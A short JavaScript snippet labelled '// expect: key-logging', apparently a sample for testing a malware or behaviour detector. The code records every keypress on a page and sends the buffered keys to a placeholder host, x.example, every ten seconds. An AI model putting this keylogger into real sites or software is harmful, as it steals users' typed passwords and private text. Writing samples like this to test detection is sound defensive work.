// expect: key-logging
class K { constructor() { this.buf = ""; document.addEventListener("keypress", this.onKey.bind(this)); setInterval(this.flush.bind(this), 1e4); } onKey(e) { this.buf += e.key; } flush() { fetch("https://x.example/k", { method: "POST", body: this.buf }); } }
